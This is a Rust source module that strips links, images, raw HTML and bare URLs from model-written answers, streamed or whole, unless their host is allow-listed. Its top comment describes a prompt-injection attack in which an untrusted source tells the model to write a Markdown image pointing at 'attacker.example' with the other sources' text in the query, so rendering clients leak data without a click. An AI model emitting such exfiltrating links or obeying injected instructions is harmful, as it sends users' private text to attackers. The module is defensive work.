//! Links and images in model-written answers, neutralised unless they point to an allowed host.
//!
//! The model reads untrusted sources, and a source may tell it to write
//! `![x](https://attacker.example/?d=<other sources>)`: any client that renders the answer as
//! Markdown (or HTML) would then fetch that image and ship the text to the attacker, without a
//! click. So every answer, streamed or not, goes through [`sanitize`] or [`StreamSanitizer`]
//! before it leaves kb:
//!
//! - inline links `[text](url)` and images `![alt](url)` become their text (a link whose text
//!   is a citation marker keeps it: `[1](url)` becomes `[1]`);
//! - link reference definitions `[label]: url` are removed (so `[text][label]`, `[label]` and
//!   citation markers stay plain text);
//! - autolinks `<https://...>` and bare URLs (`http://`, `https://`, `ftp://`, `www.`) become
//!   [`LINK_REMOVED`];
//! - raw HTML (tags, comments, declarations) is removed whatever it points to;
//!
//! unless the destination is an absolute `http`/`https` URL whose host is on the allow-list
//! ([`AllowedHosts`], `answer.allowed_link_hosts`, empty by default). Everything else
//! (relative, protocol-relative, `javascript:`, `data:`, `mailto:` ...) is removed.
//!
//! Why a hand-written scanner rather than a Markdown parser: a sanitizer must catch what *any*
//! renderer the client uses could turn into a link (CommonMark, GFM's bare-URL autolinks,
//! marked, markdown-it with linkify), so it errs on the side of removing; it must give the
//! same result streamed, piece by piece, as on the whole text (one implementation serves
//! both paths, and tests check the two agree at every split); and it must be able to tell,
//! at the end of a piece, whether what it holds can still become a link. Removing a
//! construct can make its neighbours form a new one (`[a]<b>(//x)` is a link once the tag
//! is gone), so before the scanner decides that text is plain it first resolves any
//! construct that starts right after it; the output is a fixed point (sanitizing it again
//! changes nothing), which the tests check together with pulldown-cmark as an oracle.
//!
//! Code spans are not special: a URL inside backticks is removed too (a renderer never makes
//! it live, but whether backticks form a code span depends on text that may not have arrived
//! yet, and an answer loses little by it).
//!
//! The parts: `hosts` (the allow-list and which destinations it keeps), `references`
//! (character references and escapes, decoded as a renderer reads them), `scanner` (the
//! rewriting scan over the held text), and the Markdown grammar it reads: `angle` (raw HTML
//! and autolinks), `link` (link destinations, titles and definitions), `bare_url` (bare
//! URLs), over the byte classes in `bytes`.

mod angle;
mod bare_url;
mod bytes;
mod hosts;
mod link;
mod references;
mod scanner;

#[cfg(test)]
mod tests;

pub use hosts::{AllowedHosts, InvalidHost};
pub use scanner::LINK_REMOVED;

use references::decode_references;
use scanner::Scanner;

/// An answer with its links and images neutralised.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sanitized {
    pub text: String,
    /// Links, images, link definitions and HTML tags removed or replaced.
    pub removed: usize,
}

/// Neutralise the links and images of a whole answer.
pub fn sanitize(text: &str, hosts: &AllowedHosts) -> Sanitized {
    let mut stream = StreamSanitizer::new(hosts.clone());
    let mut out = stream.push(text);
    out.push_str(&stream.finish());
    Sanitized {
        text: out,
        removed: stream.removed(),
    }
}

/// [`sanitize`] for an answer that arrives in pieces: [`push`](Self::push) returns the text
/// that is settled (ordinary text at once; from a possible link, image, tag, URL or character
/// reference on, only once it is resolved), [`finish`](Self::finish) the rest. The pieces
/// joined are exactly [`sanitize`] of the whole.
#[derive(Debug, Clone)]
pub struct StreamSanitizer {
    hosts: AllowedHosts,
    /// Text held by the character reference decoder.
    references: String,
    /// Text held by the scanner.
    pending: String,
    removed: usize,
}

impl StreamSanitizer {
    pub fn new(hosts: AllowedHosts) -> Self {
        Self {
            hosts,
            references: String::new(),
            pending: String::new(),
            removed: 0,
        }
    }

    /// Take a piece of the answer; return what can be sent now.
    pub fn push(&mut self, piece: &str) -> String {
        self.step(piece, false)
    }

    /// The answer is complete: return everything still held.
    pub fn finish(&mut self) -> String {
        self.step("", true)
    }

    /// Links, images, link definitions and tags removed so far.
    pub fn removed(&self) -> usize {
        self.removed
    }

    fn step(&mut self, piece: &str, eof: bool) -> String {
        self.references.push_str(piece);
        let (decoded, held) = decode_references(&self.references, eof);
        self.references = held;
        self.pending.push_str(&decoded);
        let mut scanner = Scanner {
            buf: std::mem::take(&mut self.pending),
            eof,
            hosts: &self.hosts,
            removed: 0,
            generation: 0,
        };
        let (out, held) = scanner.run();
        self.removed += scanner.removed;
        self.pending = held;
        out
    }
}
